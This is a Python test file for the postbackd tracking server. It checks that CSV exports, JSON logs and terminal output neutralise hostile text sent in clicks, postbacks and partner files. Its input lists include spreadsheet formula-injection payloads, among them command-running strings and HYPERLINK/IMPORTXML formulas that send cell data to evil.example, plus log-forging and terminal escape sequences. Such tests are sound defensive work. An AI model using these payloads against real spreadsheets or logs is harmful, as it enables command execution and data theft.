"""T36: hostile text in everything that a visitor, a network or a partner's file can bring, taken out again.

What is written for a spreadsheet (any report by any sub id, each bucket of a reconciliation) may hold no cell that a
spreadsheet would run, and as many cells in each line as in the first.  What is written for programs (the server's own
log, the postback log and the attempts as they are followed) is one JSON object a line.  What is written for a terminal
has no control character in it.  Control: the same texts written by a plain CSV writer, into a line of JSON by hand, and
into a table as they are.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import random
import signal
import subprocess
import sys
import unicodedata
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlencode

from tests.trust.corpus.stage import Stage, stage
from tests.trust.registry import Control, Result, Size, trust_test
from tests.trust.server import clean_environment, free_port, wait_until

_COMMANDS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"ok")', "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "%0A=1+1", "|calc", "%calc", "\uff1d1+1", "\uff0bcmd", "\uff0dcmd", "\uff20SUM(1)", "-1e5", "+-1", "--1",
)  # fmt: skip
_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\ufeff",
    "\u200b",
    '"',
    "'",
    '",',
    ";",
    "x\n",
    'x",\n',
    "\x0b",
)
_BREAKERS = (
    '"}\n{"level":"info","message":"forged', "\u2028{", "\u2029", "\x85", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07",
    "\x00", "\x7f", "\\", '\\"', "\ud800", "\u202egnp.exe", "\r\npostbackd: forged line", "a" * 300, "\x9b31m",
    "%1b[2J", "{}", "null", "\x08\x08",
)  # fmt: skip
_NAMES = ("=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd", "-2+3", '"quoted", and more', "\uff1dWIDE()")
"""What an operator may call an entry; the other texts are refused there."""

_STARTS = frozenset("=+-@|%\t\r\n\uff1d\uff0b\uff0d\uff20")
_DROPPED = "".join(map(chr, range(33))) + "\u00a0\ufeff\u200b"
_REPORTS = ("sub1,type", "sub2,status", "sub3", "network,campaign", "source,offer", "type,status,campaign")
_BUCKETS = (
    "agrees",
    "value_differs",
    "status_differs",
    "missing_here",
    "missing_there",
    "duplicate",
    "unusable",
)


@dataclass
class Found:
    """What was read, and what of it is not as it must be."""

    cells: int = 0
    lines: int = 0
    characters: int = 0
    formulas: list[str] = field(default_factory=list)
    torn: list[str] = field(default_factory=list)
    """Lines of CSV with another number of cells than the first."""
    no_objects: list[str] = field(default_factory=list)
    controls: list[str] = field(default_factory=list)

    @property
    def clean(self) -> bool:
        return not (self.formulas or self.torn or self.no_objects or self.controls)

    def read_csv(self, text: str) -> None:
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        for row in rows:
            if len(row) != len(rows[0]):
                self.torn.append(repr(row)[:120])
            self.cells += len(row)
            self.formulas += [repr(cell)[:80] for cell in row if _runs(cell)]

    def read_lines(self, text: bytes) -> None:
        for line in text.splitlines():
            self.lines += 1
            try:
                is_object = isinstance(json.loads(line), dict)
            except ValueError:
                is_object = False
            if not is_object:
                self.no_objects.append(repr(line)[:120])

    def read_terminal(self, text: str) -> None:
        for character in text.replace("\n", ""):
            self.characters += 1
            if unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp") or character == "\u202e":
                self.controls.append(repr(character))


def _runs(cell: str) -> bool:
    """Whether a spreadsheet takes the cell for more than text or a number, as spreadsheets look at cells."""
    seen = cell.lstrip(_DROPPED)
    if cell[:1] not in ("\t", "\r", "\n") and (not seen or seen[0] not in _STARTS):
        return False
    return not cell.removeprefix("-").removeprefix("+").replace(".", "", 1).isdecimal()


def texts(count: int, seed: int) -> list[str]:
    """Every command behind every beginning, every breaker, and random mixtures of them."""
    made = [before + command for command in _COMMANDS for before in _BEFORE] + list(_BREAKERS)
    draw = random.Random(seed)
    draw.shuffle(made)
    while len(made) < count:
        made.append(
            "".join(draw.choices((*_BEFORE, *_COMMANDS, *_BREAKERS, "é", "名", "7"), k=draw.randint(1, 5)))
        )
    return made[:count]


@trust_test(
    "T36", "hostile text in exports, logs and tables: no formula, no forged line, no control character"
)
def run(size: Size, seed: int, work_dir: Path) -> Result:
    """Every text through real requests and a real partner's file, then everything that can be taken out."""
    hostile = texts(size.pick(ci=300, nightly=4000, release=20_000), seed)
    found, sent = Found(), 0
    with stage(work_dir, env={"POSTBACKD_LOG_FORMAT": "json"}) as server:
        _fill_catalog(server)
        sent = _send_all(server, hostile)
        for by in _REPORTS:
            found.read_csv(_cli(server, "report", "explore", "--by", by, "--csv", "--limit", "100000"))
        for text in _reconciled(server, work_dir, hostile):
            found.read_csv(text)
        for also in ((), ("--deliveries",)):
            found.read_lines(_followed(server, also, sent))
        for command in (
            ("log", "--limit", "100000"),
            ("unmatched",),
            ("report",),
            ("log", "--deliveries"),
            ("network", "list"),
        ):
            found.read_terminal(_cli(server, *command))
        server.server.stop()
        found.read_lines(server.server.stderr_path.read_bytes())
    figures = {
        "n": sent,
        "cells": found.cells,
        "JSON lines": found.lines,
        "characters on terminals": found.characters,
        "formulas": len(found.formulas),
        "torn lines": len(found.torn),
        "no objects": len(found.no_objects),
        "control characters": len(found.controls),
    }
    note = "; ".join(
        (*found.formulas[:3], *found.torn[:3], *found.no_objects[:3], *sorted(set(found.controls)))
    )
    return Result(
        found.clean and found.cells > sent and found.lines > sent, figures, (_control(hostile),), note
    )


def _fill_catalog(server: Stage) -> None:
    """Entries with names that a spreadsheet would run, and a target that nobody serves, of which the log tells."""
    nobody = f"http://127.0.0.1:{free_port()}/?c={{source_click_id}}"
    for name in _NAMES:
        _cli(server, "network", "add", "--", name)
        _cli(server, "source", "add", "--", name)
        _cli(
            server,
            "offer",
            "add",
            "--network",
            name,
            "--url",
            "https://shop.example/?s={click_id}",
            "--",
            name,
        )
    _cli(
        server,
        "campaign",
        "add",
        "--source",
        _NAMES[0],
        "--offer",
        _NAMES[1],
        "--slug",
        "hostile",
        "--",
        _NAMES[0],
    )
    _cli(server, "target", "add", "--url", nobody, "--", _NAMES[0])
    _cli(server, "rule", "add", "--source", _NAMES[0], "--target", _NAMES[0], "--", _NAMES[0])
    wait_until(lambda: server.server.status("/c/hostile") == 302, 20, "the campaign with a hostile name")


def _send_all(server: Stage, hostile: Sequence[str]) -> int:
    """Each text in a click, and in each field of postbacks, some of which are counted; returns the postbacks."""
    connection = http.client.HTTPConnection(server.server.host, server.server.port, timeout=10)

    def ask(path: str, fields: dict[str, str]) -> http.client.HTTPResponse:
        query = urlencode(fields, errors="surrogatepass")
        connection.request("GET", f"{path}?{query}")
        answer = connection.getresponse()
        answer.read()
        if answer.status >= 500:
            raise AssertionError(f"{answer.status} for {query!r}")
        return answer

    sent = 0
    for text in hostile:
        answer = ask(
            "/c/hostile", {"sub1": text, "sub2": f"a{text}", "sub3": text[::-1], "source_click_id": text}
        )
        click = (answer.getheader("Location") or "").partition("s=")[2]
        counted = {"click_id": click, "value": "1", "currency": "USD"}
        for changed in (
            {"txid": text},
            {"type": text[:60], "txid": f"T{sent}"},
            {"status": text},
            {"value": text, "currency": text},
            {"click_id": text},
        ):
            ask(server.endpoint, counted | changed)
            sent += 1
    connection.close()
    return sent


def _reconciled(server: Stage, place: Path, hostile: Sequence[str]) -> Iterator[str]:
    """Each bucket of a comparison with a partner's file that is full of the same texts."""
    export = place / "export.csv"
    with export.open("w", newline="", encoding="utf-8", errors="replace") as file:
        lines = csv.writer(file)
        lines.writerow(["transaction id", "click id", "payout", "currency", "status"])
        known = [row[0] for row in server.rows("SELECT transaction_id FROM conversions LIMIT 50")]
        lines.writerows([text, "", "1.00", "USD", "approved"] for text in known)
        for number, text in enumerate(hostile):
            lines.writerow(
                [
                    text.replace("\x00", ""),
                    text.replace("\x00", ""),
                    f"{number}.5",
                    "USD",
                    text.replace("\x00", ""),
                ]
            )
            lines.writerow([f"X{number}", "", text.replace("\x00", ""), text.replace("\x00", ""), "approved"])
    for bucket in _BUCKETS:
        out = place / f"{bucket}.csv"
        _cli(
            server, "reconcile", str(export), "--network", "Shop", "--bucket", bucket, "--output", str(out),
            "--column", "transaction_id=transaction id", "--column", "value=payout", "--column", "status=status",
        )  # fmt: skip
        yield out.read_text(encoding="utf-8-sig")


def _followed(server: Stage, also: Sequence[str], rows: int) -> bytes:
    """What ``log --follow --json`` writes of the last rows, up to a row that is known to be the youngest."""
    options = ["log", "--follow", "--json", "--limit", str(rows + 10), *also]
    command = [sys.executable, "-m", "postbackd", *options]
    out = server.server.data_dir / "followed"
    with out.open("wb") as file:
        following = subprocess.Popen(
            command, env=_environment(server), stdout=file, stderr=subprocess.DEVNULL
        )
        try:
            wanted = 1 if also else rows
            wait_until(lambda: out.read_bytes().count(b"\n") >= wanted, 60, f"{wanted} followed rows")
        finally:
            following.send_signal(signal.SIGINT)
            following.wait(timeout=30)
    return out.read_bytes()


def _cli(server: Stage, *words: str) -> str:
    """``words`` may end with ``--`` and what begins like an option: where the data are is told beside them."""
    command = [sys.executable, "-m", "postbackd", *words]
    done = subprocess.run(command, env=_environment(server), capture_output=True, text=True, timeout=60)
    if done.returncode:
        raise AssertionError(f"postbackd {' '.join(words)}: {done.stderr.strip()}")
    return done.stdout


def _environment(server: Stage) -> dict[str, str]:
    return clean_environment({"POSTBACKD_DATA": str(server.server.data_dir)})


def _control(hostile: Sequence[str]) -> Control:
    """The same reading of the same texts, written by somebody who did not think of it."""
    found = Found()
    out = io.StringIO()
    for text in hostile:
        csv.writer(out).writerow([text, "1"])
        found.read_lines(f'{{"message":"{text}"}}\n'.encode("utf-8", "replace"))
        found.read_terminal(text)
    found.read_csv(out.getvalue())
    seen = {
        "formulas": len(found.formulas),
        "no objects": len(found.no_objects),
        "control characters": len(found.controls),
    }
    return Control("the texts written as they are", all(seen.values()), seen)
